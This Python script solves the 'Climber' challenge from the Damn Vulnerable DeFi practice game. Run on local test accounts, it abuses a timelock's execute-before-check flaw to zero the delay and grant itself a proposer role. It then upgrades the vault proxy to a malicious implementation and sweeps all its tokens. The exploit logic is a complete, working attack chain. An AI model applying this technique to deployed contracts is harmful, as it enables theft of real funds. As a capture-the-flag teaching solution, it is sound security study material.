from collections import namedtuple
from enum import IntEnum

from ape import accounts, project
from .utils.helper import (
    w3,
    reverts,
    get_role,
    get_calldata,
    set_balance,
    ZERO_ADDRESS,
)

VAULT_TOKEN_BALANCE = w3.to_wei(10000000, "ether")
ATTACKER_INITIAL_ETH_BALANCE = w3.to_wei(0.1, "ether")
TIMELOCK_DELAY = 60 * 60

ADMIN_ROLE = get_role("ADMIN_ROLE")
PROPOSER_ROLE = get_role("PROPOSER_ROLE")

# any value works, it only makes the operation id unique
SALT = w3.keccak(text="random_salt")

Scenario = namedtuple("Scenario", ["timelock", "vault", "token"])


class OperationState(IntEnum):
    UNKNOWN = 0
    SCHEDULED = 1
    READY_FOR_EXECUTION = 2
    EXECUTED = 3


def deploy_scenario(deployer, proposer, sweeper):
    # Deploy the vault behind a proxy using the UUPS pattern,
    # passing the necessary addresses for the `ClimberVault::initialize(address,address,address)` function
    print("\n--- Deploying Vault behind a proxy (using UUPS pattern) ---\n")
    vault_implementation = project.ClimberVault.deploy(sender=deployer)
    data = get_calldata(
        "initialize(address,address,address)",
        ["address", "address", "address"],
        [deployer.address, proposer.address, sweeper.address],
    )
    proxy = project.ClimberVaultProxy.deploy(
        vault_implementation.address, data, sender=deployer
    )
    vault = project.ClimberVault.at(proxy.address)

    # the vault deploys the timelock and hands its ownership over to it
    print("\n--- Instantiating Timelock ---\n")
    timelock = project.ClimberTimelock.at(vault.owner())

    # Deploy token and transfer initial token balance to the vault
    print("\n--- Deploying token and transferring initial token balance to vault ---\n")
    token = project.DamnValuableToken.deploy(sender=deployer)
    token.transfer(vault.address, VAULT_TOKEN_BALANCE, sender=deployer)

    return Scenario(timelock, vault, token)


def check_scenario(scenario, deployer, proposer, sweeper):
    timelock, vault, token = scenario

    assert vault.getSweeper() == sweeper.address
    assert vault.getLastWithdrawalTimestamp() > 0
    assert vault.owner() != ZERO_ADDRESS
    assert vault.owner() != deployer.address

    # Ensure timelock delay is correct and cannot be changed
    assert timelock.delay() == TIMELOCK_DELAY
    with reverts(timelock.CallerNotTimelock):
        timelock.updateDelay(TIMELOCK_DELAY + 1, sender=deployer)

    # Ensure timelock roles are correctly initialized
    print("\n--- Ensuring timelock roles are correctly initialized ---\n")
    assert timelock.hasRole(PROPOSER_ROLE, proposer.address)
    assert timelock.hasRole(ADMIN_ROLE, deployer.address)
    assert timelock.hasRole(ADMIN_ROLE, timelock.address)

    assert token.balanceOf(vault.address) == VAULT_TOKEN_BALANCE


def build_escalation_batch(timelock, attacker_contract, salt):
    """
    Calls for a single `execute` run, dispatched in order by the timelock:

    1. `updateDelay(0)` on the timelock, allowed because the caller is the timelock itself
    2. `grantRole(PROPOSER_ROLE, attacker_contract)`, the timelock is its own admin
    3. `selfSchedule(salt)` on the attacker contract, which schedules this very
       batch. With a zero delay it is `ReadyForExecution` by the time `execute`
       checks the operation state after the loop.
    """
    targets = [timelock.address, timelock.address, attacker_contract.address]
    values = [0, 0, 0]
    data_elements = [
        get_calldata("updateDelay(uint64)", ["uint64"], [0]),
        get_calldata(
            "grantRole(bytes32,address)",
            ["bytes32", "address"],
            [PROPOSER_ROLE, attacker_contract.address],
        ),
        get_calldata("selfSchedule(bytes32)", ["bytes32"], [salt]),
    ]
    return targets, values, data_elements


def escalate(timelock, attacker_contract, attacker, salt=SALT):
    targets, values, data_elements = build_escalation_batch(
        timelock, attacker_contract, salt
    )

    # the attacker contract must schedule exactly what is being executed
    attacker_contract.setOperation(targets, values, data_elements, sender=attacker)
    timelock.execute(targets, values, data_elements, salt, sender=attacker)

    return targets, values, data_elements


def take_over_vault(timelock, vault, attacker_contract, attacker, salt=SALT):
    print("\n--- Upgrading vault to malicious implementation ---\n")
    malicious_vault = project.MaliciousClimberVault.deploy(sender=attacker)
    upgrade_calldata = get_calldata(
        "upgradeTo(address)", ["address"], [malicious_vault.address]
    )

    # delay is 0 now, so the upgrade can be executed right after scheduling it
    attacker_contract.schedule(
        [vault.address], [0], [upgrade_calldata], salt, sender=attacker
    )
    timelock.execute([vault.address], [0], [upgrade_calldata], salt, sender=attacker)

    return malicious_vault


def sweep(vault, token, attacker):
    # the upgraded implementation no longer checks the sweeper
    vault.sweepFunds(token.address, sender=attacker)


def exploit(scenario, attacker, salt=SALT):
    timelock, vault, token = scenario

    attacker_contract = project.ClimberAttacker.deploy(
        timelock.address, sender=attacker
    )

    print("\n--- Taking over the timelock ---\n")
    escalate(timelock, attacker_contract, attacker, salt)
    take_over_vault(timelock, vault, attacker_contract, attacker, salt)

    print("\n--- Sweeping funds ---\n")
    sweep(vault, token, attacker)

    return attacker_contract


def main():
    # --- BEFORE EXPLOIT --- #
    print("\n--- Setting up scenario ---\n")

    # get accounts
    deployer = accounts.test_accounts[0]
    attacker = accounts.test_accounts[1]
    proposer = accounts.test_accounts[2]
    sweeper = accounts.test_accounts[3]

    print(
        f"\n--- \nOur players:\n⇒ Deployer: {deployer}\n⇒ Attacker: {attacker}\n⇒ Proposer: {proposer}"
    )
    print(f"⇒ Sweeper: {sweeper}\n---\n")

    # Attacker starts off with 0.1 ETH balance
    print("\n--- Setting attacker's balance to 0.1 ETH ---\n")
    set_balance(attacker, ATTACKER_INITIAL_ETH_BALANCE)
    assert attacker.balance == ATTACKER_INITIAL_ETH_BALANCE

    scenario = deploy_scenario(deployer, proposer, sweeper)
    check_scenario(scenario, deployer, proposer, sweeper)
    timelock, vault, token = scenario

    # define initial balances for attacker and vault
    vault_initial_bal = token.balanceOf(vault.address) / 10**18
    attacker_initial_bal = token.balanceOf(attacker.address) / 10**18

    print(
        f"\n--- \nInitial Balances:\n⇒ Vault: {vault_initial_bal}\n⇒ Attacker: {attacker_initial_bal}\n---\n"
    )

    # --- EXPLOIT GOES HERE --- #
    print("\n--- Initiating exploit... ---\n")

    # exploit
    exploit(scenario, attacker)

    # --- AFTER EXPLOIT => attacker must have stolen all tokens from the Vault --- #
    print(
        "\n--- After exploit: Attacker has stolen all the tokens from the Vault ---\n"
    )

    # define ending balances for attacker and vault
    vault_ending_bal = token.balanceOf(vault.address) / 10**18
    attacker_ending_bal = token.balanceOf(attacker.address) / 10**18

    print(
        f"\n--- \nEnding Balances:\n⇒ Vault: {vault_ending_bal}\n⇒ Attacker: {attacker_ending_bal}\n---\n"
    )

    # vault has no more tokens and attacker has all remaining tokens
    assert token.balanceOf(vault.address) == 0
    assert token.balanceOf(attacker.address) == VAULT_TOKEN_BALANCE
    assert timelock.delay() == 0

    print("\n--- 🥂 Challenge Completed! 🥂---\n")


if __name__ == "__main__":
    main()
